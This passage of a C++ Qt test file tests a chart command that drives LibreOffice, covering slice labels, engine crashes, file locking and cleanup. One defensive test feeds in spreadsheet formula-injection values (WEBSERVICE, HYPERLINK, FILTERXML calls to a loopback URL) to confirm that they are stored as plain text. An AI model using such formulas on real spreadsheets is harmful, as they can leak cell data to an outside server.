// its slices lose the outline that would hide their colours.
void TestChartCommandEngine::pieOfALongList()
{
    QFETCH(int, rows);
    QFETCH(bool, threeD);
    // The template's six (Car made thin), then thin rows with a wide one every tenth.
    EntryList list = SampleEntries();
    list[5].amount = QStringLiteral("300");
    for (int i = 7; i <= rows; ++i)
        list.append({QStringLiteral("Asset %1").arg(i), QString::number(i % 10 ? 250 : 9000)});
    EngineClick click(list);
    click.run();
    QVERIFY2(click.prompts.errorReports().isEmpty(), qPrintable(click.prompts.errorReports().join(u'\n')));
    QCOMPARE(click.prompts.shown.size(), 0);

    const QString xlsx = click.server.convertWorkbook(click.host.workbook, ResultFormat::Xlsx);
    const QStringList facts = xlsxPie(xlsx).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QFile::remove(xlsx);
    double total = 0;
    for (const Entry &entry : list)
        total += typedNumber(entry.amount);
    QStringList labelled;
    for (int i = 0; i < rows; ++i) {
        if (threeD || ChartSliceShare(typedNumber(list.at(i).amount), total) >= 1)
            labelled << QString::number(i);
    }
    QVERIFY(labelled.size() > 10 && (threeD || labelled.size() < rows - 50));
    QCOMPARE(facts, (QStringList{threeD ? QStringLiteral("kind pie3DChart") : QStringLiteral("kind pieChart"),
                                 QStringLiteral("range Assets!$B$3"),
                                 QStringLiteral("range Assets!$A$4:$A$%1").arg(rows + 3),
                                 QStringLiteral("range Assets!$B$4:$B$%1").arg(rows + 3),
                                 QStringLiteral("labelled ") + labelled.join(u' '),
                                 threeD ? QStringLiteral("outlined True") : QStringLiteral("outlined False")}));
}

// A picture name that cannot be written (a folder is in the way): one report,
// and nothing of the run is left, the saved workbook included.
void TestChartCommandEngine::failingStepGoesOn()
{
    EngineClick click(entries(2));
    QVERIFY(QDir().mkdir(click.temp(QStringLiteral("temp.bmp"))));
    click.run();

    static const QRegularExpression line(QStringLiteral("at line (\\d+)\r\r"));
    QStringList steps;
    for (const QString &report : click.prompts.errorReports())
        steps << line.match(report).captured(1);
    QCOMPARE(steps, (QStringList{"184"}));
    QVERIFY(click.host.picture.isNull());
    QVERIFY(!click.host.previewShown);
    QCOMPARE(click.tempFiles(), QStringList{});
    QVERIFY(QFileInfo(click.temp(QStringLiteral("temp.bmp"))).isDir());
    QCOMPARE(GetSetting(kSettingsApp, kSettingsSection, QStringLiteral("Assets"), QString()), QString());
    QCOMPARE(ourEngines(), QStringList{});
}

// The whole road from the main window's button: the stored sample list becomes
// a chart in the preview window, which holds the workbook's path.
void TestChartCommandEngine::mainWindowButton()
{
    IsolatedEnvironment env;
    QTemporaryDir programFolder;
    LibreOfficeServer server;
    server.setTypingLocale(QLocale(QLocale::English, QLocale::UnitedStates));
    ProceedingPrompts prompts;
    int ended = 0;
    Form1 form(prompts, server,
               {programFolder.path(), [] { return 0.5; },
                [](const QString &, const QStringList &) { return true; }, [&] { ++ended; }});
    form.show();
    QVERIFY(QTest::qWaitForWindowExposed(&form));

    QTest::mouseClick(form.PushButton1, Qt::LeftButton);

    QCOMPARE(prompts.errorReports(), QStringList{});
    Form2 *preview = form.previewWindow();
    QVERIFY(preview);
    QVERIFY(preview->isVisible());
    QVERIFY(!form.isVisible());
    // On showing, the preview keeps the picture's unscaled copy and first shows
    // its whole width, the chart beside the table and all: below zoom 1.0.
    const QImage picture = preview->findChild<PictureBox *>(QStringLiteral("Zoom_Ori"))->picture();
    const auto *shown = preview->findChild<PictureBox *>(QStringLiteral("Picture1"));
    const float zoom = ZoomShowing(picture.size(), shown->drawing().size());
    QVERIFY2(zoom > 0.0f && zoom < 1.0f, qPrintable(QString::number(zoom)));
    QVERIFY(shown->width() <= preview->findChild<QWidget *>(QStringLiteral("Picture2"))->width());
    QVERIFY2(picture.width() >= 700 && picture.height() >= 350,
             qPrintable(QStringLiteral("%1x%2").arg(picture.width()).arg(picture.height())));
    for (QRgb colour : kSliceColours.mid(0, 6))
        QVERIFY2(pixelsNear(picture, colour) >= 1000, qPrintable(QString::number(colour, 16)));
    QCOMPARE(QFileInfo(preview->mExcelFile).absolutePath(), env.tempFolder());
    QCOMPARE(QDir(env.tempFolder()).entryList(QDir::Files), QStringList{QFileInfo(preview->mExcelFile).fileName()});
    QCOMPARE(GetSetting(kSettingsApp, kSettingsSection, QStringLiteral("Assets"), QString()),
             EncodeEntryList(SampleEntries()));
    QCOMPARE(ourEngines(), QStringList{});
    QCOMPARE(ended, 0);
}

void TestChartCommandEngine::chartInProgress_data()
{
    QTest::addColumn<QString>("held");   // the name another copy keeps meanwhile
    QTest::addColumn<QString>("how");
    QTest::newRow("before the first instance, Cancel") << "Pie Chart.xlt" << "Cancel";
    QTest::newRow("the second instance open, Escape") << "temp.bmp" << "Escape";
}

// Another copy of the program keeps a fixed name, so the run waits as long as
// the engine takes over a long list: the main window paints meanwhile, a
// click on it meets the progress dialog, and Cancel ends the run with nothing
// to report and nothing left. The window works on: the next click, once the
// name is free, makes the chart.
void TestChartCommandEngine::chartInProgress()
{
    QFETCH(QString, held);
    QFETCH(QString, how);
    IsolatedEnvironment env;
    QTemporaryDir programFolder;
    LibreOfficeServer server;
    ProceedingPrompts prompts;
    Form1 form(prompts, server,
               {programFolder.path(), [] { return 0.5; },
                [](const QString &, const QStringList &) { return true; }, [] {}});
    form.show();
    QVERIFY(QTest::qWaitForWindowExposed(&form));
    auto other = std::make_unique<FixedNameLock>();
    other->acquire(env.tempFolder(), held);

    struct Counter : QObject {
        QEvent::Type type;
        int count = 0;
        explicit Counter(QEvent::Type counted) : type(counted) {}
        bool eventFilter(QObject *, QEvent *event) override
        {
            count += event->type() == type;
            return false;
        }
    } paints(QEvent::Paint), clicks(QEvent::MouseButtonRelease);
    form.installEventFilter(&paints);
    form.PushButton1->installEventFilter(&clicks);
    int paintsBeforeCancel = -1;
    QElapsedTimer sinceCancel;
    QTimer poll;
    connect(&poll, &QTimer::timeout, [&] {
        form.update();
        auto *dialog = form.findChild<QProgressDialog *>(QStringLiteral("ProgressDialog"));
        if (sinceCancel.isValid() || !dialog || !dialog->isVisible())
            return;
        paintsBeforeCancel = paints.count;
        // As a user's click comes, through the window system.
        QTest::mouseClick(form.windowHandle(), Qt::LeftButton, {}, form.PushButton1->geometry().center());
        sinceCancel.start();
        if (how == "Escape")
            QTest::keyClick(dialog, Qt::Key_Escape);
        else
            QTest::mouseClick(dialog->findChild<QPushButton *>(), Qt::LeftButton);
    });
    poll.start(10);
    QTest::mouseClick(form.PushButton1, Qt::LeftButton);
    poll.stop();

    QVERIFY2(paintsBeforeCancel > 0, "the main window did not paint while the run waited");
    QVERIFY2(sinceCancel.isValid() && sinceCancel.elapsed() < 1000, qPrintable(QString::number(sinceCancel.elapsed())));
    QCOMPARE(clicks.count, 1);
    QCOMPARE(prompts.errorReports(), QStringList{});
    QVERIFY(form.isVisible());
    QVERIFY(!form.previewWindow() || !form.previewWindow()->isVisible());
    QCOMPARE(QDir(env.tempFolder()).entryList(QDir::Files | QDir::Hidden), QStringList{"." + held + ".lock"});
    QTRY_COMPARE(ourEngines(), QStringList{});

    other.reset();
    QTest::mouseClick(form.PushButton1, Qt::LeftButton);
    QCOMPARE(prompts.errorReports(), QStringList{});
    QVERIFY(form.previewWindow() && form.previewWindow()->isVisible());
}

Q_DECLARE_METATYPE(Phase)

// The engine instance killed or stopped at each phase of the command: at most
// one report, no wait beyond the watchdog, no engine and no file of ours left
// but the workbook a shown preview owns, and the next click works.
void TestChartCommandEngine::engineUpset_data()
{
    QTest::addColumn<Phase>("phase");
    QTest::addColumn<int>("signal");
    const QList<std::pair<const char *, Phase>> phases = {
            {"opening", Phase::Opening}, {"filling", Phase::Filling},
            {"saving", Phase::Saving}, {"between the instances", Phase::BetweenInstances},
            {"rendering", Phase::Rendering}, {"quitting", Phase::Quitting}};
    for (const auto &[name, phase] : phases) {
        QTest::addRow("killed %s", name) << phase << SIGKILL;
        QTest::addRow("stopped %s", name) << phase << SIGSTOP;
    }
}

void TestChartCommandEngine::engineUpset()
{
    QFETCH(Phase, phase);
    QFETCH(int, signal);
    // Short, so that a stopped instance is given up soon; long enough for any
    // call a loaded machine makes before the upset.
    constexpr auto kWatchdog = std::chrono::milliseconds(4000);

    const QStringList pipesBefore = pipeFiles();
    EngineClick click(entries(3));
    click.server.setCallTimeout(kWatchdog);
    UpsettingServer upsetting(click.server, phase, signal);
    QElapsedTimer clock;
    clock.start();
    ChartCommand(click.prompts, upsetting).run(click.host);
    const qint64 took = clock.elapsed();

    QVERIFY(upsetting.upset());
    const QStringList reports = click.prompts.errorReports();
    QVERIFY2(reports.size() <= 1, qPrintable(reports.join(QStringLiteral("\n---\n"))));
    for (const QString &report : reports) {
        QVERIFY2(!report.contains(QLatin1String("is installed")), qPrintable(report));
        QVERIFY2(report.startsWith(signal == SIGKILL ? QLatin1String("LibreOffice stopped unexpectedly")
                                                     : QLatin1String("LibreOffice did not answer")),
                 qPrintable(report));
    }
    // Each wait ends at the watchdog: at most one wait, plus the chart's own work.
    QVERIFY2(took < 2 * kWatchdog.count() + 10000, qPrintable(QString::number(took)));
    QCOMPARE(ourEngines(), QStringList{});
    QCOMPARE(click.host.pointers.last(), qint16(0));
    if (click.host.previewShown) {
        QVERIFY(reports.isEmpty() || phase == Phase::Quitting);
        QCOMPARE(click.tempFiles(), QStringList{QFileInfo(click.host.workbook).fileName()});
        QVERIFY(!click.host.picture.isNull());
        QFile::remove(click.host.workbook);
    } else {
        QCOMPARE(reports.size(), 1);
        QVERIFY2(click.tempFiles().isEmpty(), qPrintable(click.tempFiles().join(u' ')));
    }

    // The next click, on the same engine adapter.
    click.server.setCallTimeout(EngineProcess::kDefaultCallTimeout);
    FakeChartHost next(&click.trail);
    next.entries = entries(2);
    click.prompts.shown.clear();
    ChartCommand(click.prompts, click.server).run(next);
    QCOMPARE(click.prompts.errorReports(), QStringList{});
    QVERIFY(next.previewShown);
    QVERIFY(!next.picture.isNull());
    QCOMPARE(click.tempFiles(), QStringList{QFileInfo(next.workbook).fileName()});
    QCOMPARE(ourEngines(), QStringList{});
    // A killed instance leaves its pipes' socket files; the adapter removes them.
    const QStringList pipesLeft = pipesLeftSince(pipesBefore);
    QVERIFY2(pipesLeft.isEmpty(), qPrintable(pipesLeft.join(u' ')));
}

// Nothing the list holds runs or reaches the network: labels are text
// whatever they begin with, amounts numbers only when they are numbers. A
// server on the loopback address stands for the outside world.
void TestChartCommandEngine::hostileInputStaysText()
{
    LoopbackListener outside;
    QVERIFY(outside.port() > 0);
    const QString url = QStringLiteral("http://127.0.0.1:%1/").arg(outside.port());
    const EntryList hostile = {
            {QStringLiteral("=WEBSERVICE(\"%1label?\"&A5&B5)").arg(url), QStringLiteral("25000")},
            {QStringLiteral("=HYPERLINK(\"%1link\";\"x\")").arg(url), QStringLiteral("=1+1")},
            {QStringLiteral("=1+1"), QStringLiteral("=WEBSERVICE(\"%1amount\")").arg(url)},
            {QStringLiteral("'quoted"), QStringLiteral("@SUM(1)")},
            {QStringLiteral("+A4"), QStringLiteral("1e3")},
            {url + QStringLiteral("plain"), QStringLiteral("-7")},
            {QStringLiteral("=FILTERXML(WEBSERVICE(\"%1xml\");\"//a\")").arg(url), QStringLiteral("12abc")},
    };
    EngineClick click(hostile);
    click.run();
    QCOMPARE(click.prompts.errorReports(), QStringList{});
    QVERIFY(click.host.previewShown);

    // What the saved file holds, read by a reader that evaluates nothing.
    QString cells = xlrd(click.host.workbook, 4, int(hostile.size()) + 3);
    QStringList lines = cells.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), hostile.size());
    for (int i = 0; i < hostile.size(); ++i) {
        const QStringList fields = lines.at(i).split(QLatin1Char('\t'));
        QCOMPARE(fields.value(0), QStringLiteral("text"));
        QCOMPARE(fields.value(1), hostile.at(i).label);
        const bool number = IsNumeric(hostile.at(i).amount, QLocale(QLocale::English, QLocale::UnitedStates));
        QCOMPARE(fields.value(2), number ? QStringLiteral("number") : QStringLiteral("text"));
        if (number)
            QCOMPARE(fields.value(3).toDouble(), QLocale(QLocale::English).toDouble(hostile.at(i).amount));
        else
            QCOMPARE(fields.value(3), hostile.at(i).amount);
    }
    QVERIFY2(!outside.wasReached(), "the engine reached the loopback server");
    QCOMPARE(ourEngines(), QStringList{});
}

// Two copies of the program sharing one temporary folder, the second clicking
// while the first works: both charts are made, and neither touched the other's files.
void TestChartCommandEngine::twoCopiesShareAFolder_data()
{
    QTest::addColumn<QString>("clickedOnceThere");   // a file of the other copy's work; none: at once
    QTest::newRow("together") << QString();
    QTest::newRow("while the other holds the template") << ".Pie Chart.xlt.lock";
}

void TestChartCommandEngine::twoCopiesShareAFolder()
{
    QFETCH(QString, clickedOnceThere);
    EngineClick click(entries(3));
    QTemporaryDir otherConfig;
    QProcess other;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(QStringLiteral("XDG_CONFIG_HOME"), otherConfig.path());
    environment.insert(QStringLiteral("TEMP"), click.env.tempFolder());
    environment.insert(QString::fromLatin1(kSecondCopy), QStringLiteral("1"));
    other.setProcessEnvironment(environment);
    other.start(QCoreApplication::applicationFilePath(), {});
    QVERIFY(other.waitForStarted());
    if (!clickedOnceThere.isEmpty()) {
        const QString path = click.temp(clickedOnceThere);
        waitWhileSecondCopyRuns(other, [&] { return QFileInfo::exists(path); });
        QVERIFY(QFileInfo::exists(path));
    }
    click.run();
    QVERIFY(other.waitForFinished(120000));

    const QStringList said = QString::fromUtf8(other.readAllStandardOutput()).split(QLatin1Char('\n'));
    QCOMPARE(other.exitCode(), 0);
    QCOMPARE(said.value(0), QStringLiteral("reports 0"));
    const QString theirs = said.value(1);
    QCOMPARE(click.prompts.errorReports(), QStringList{});
    QVERIFY(click.host.previewShown);
    QVERIFY(!click.host.picture.isNull());
    QVERIFY(theirs != click.host.workbook);
    QStringList both = {QFileInfo(theirs).fileName(), QFileInfo(click.host.workbook).fileName()};
    both.sort();
    QCOMPARE(click.tempFiles(), both);
    QCOMPARE(ourEngines(), QStringList{});
}

// Amounts each valid on its own whose total the engine cannot hold.
void TestChartCommandEngine::amountsTooLargeToTotal()
{
    EngineClick click({{QStringLiteral("One"), QStringLiteral("9e307")}, {QStringLiteral("Two"), QStringLiteral("9e307")}});
    click.run();
    const QStringList reports = click.prompts.errorReports();
    QCOMPARE(reports.size(), 1);
    QVERIFY2(reports.first().startsWith(QLatin1String("LibreOffice ran out of memory while saving")),
             qPrintable(reports.first()));
    QVERIFY(!click.host.previewShown);
    // The engine's own save scratch (lu*.tmp) is the engine adapter's to keep
    // out of this folder; here: no file the command names.
    QStringList left = click.tempFiles();
    left.removeIf([](const QString &name) { return name.startsWith(QLatin1String("lu")) && name.endsWith(QLatin1String(".tmp")); });
    QVERIFY2(left.isEmpty(), qPrintable(left.join(u' ')));
    QCOMPARE(ourEngines(), QStringList{});
}

// A copy of the program killed while it draws or writes the sheet's picture:
// what it leaves in the shared temporary folder goes at the next start.
void TestChartCommandEngine::killedWhileThePictureIsWritten_data()
{
    QTest::addColumn<int>("signal");
    QTest::addColumn<QStringList>("killedAt");   // the files whose appearance is the moment
    QTest::newRow("SIGKILL drawing") << int(SIGKILL) << QStringList{".temp.bmp.lock"};
    QTest::newRow("SIGTERM drawing") << int(SIGTERM) << QStringList{".temp.bmp.lock"};
    // The template copy is written the same way, earlier: the picture's lock
    // tells the picture's unfinished file from the template's.
    QTest::newRow("SIGKILL writing") << int(SIGKILL) << QStringList{".temp.bmp.lock", ".Quintarra-*.part"};
}

void TestChartCommandEngine::killedWhileThePictureIsWritten()
{
    QFETCH(int, signal);
    QFETCH(QStringList, killedAt);
    IsolatedEnvironment env;
    QProcess other;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(QString::fromLatin1(kSecondCopy), QStringLiteral("1"));
    environment.insert(QString::fromLatin1(kSecondCopyRows), QStringLiteral("3000"));
    other.setProcessEnvironment(environment);
    other.start(QCoreApplication::applicationFilePath(), {});
    QVERIFY(other.waitForStarted());
    const QDir folder(env.tempFolder());
    const auto there = [&] {
        return std::all_of(killedAt.cbegin(), killedAt.cend(), [&](const QString &pattern) {
            return !folder.entryList({pattern}, QDir::Files | QDir::Hidden).isEmpty();
        });
    };
    waitWhileSecondCopyRuns(other, there);
    QVERIFY2(there(), qPrintable(folder.entryList(QDir::Files | QDir::Hidden).join(u' ')));
    ::kill(pid_t(other.processId()), signal);
    QVERIFY(other.waitForFinished(30000));
    QCOMPARE(other.exitStatus(), QProcess::CrashExit);

    OwnedWorkbooks::removeThoseOfDeadRuns();
    const QStringList left = folder.entryList(QDir::Files | QDir::Hidden);
    QVERIFY2(left.isEmpty(), qPrintable(left.join(u' ')));
}

void TestChartCommandEngine::cleanupTestCase()
{
    QCOMPARE(ourEngines(), QStringList{});
}

int main(int argc, char **argv)
{
    if (qEnvironmentVariableIsSet(kSecondCopy))
        return runAsSecondCopy(argc, argv);
    QApplication application(argc, argv);
    TestChartCommandEngine test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}
#include "tst_chartcommand_engine.moc"
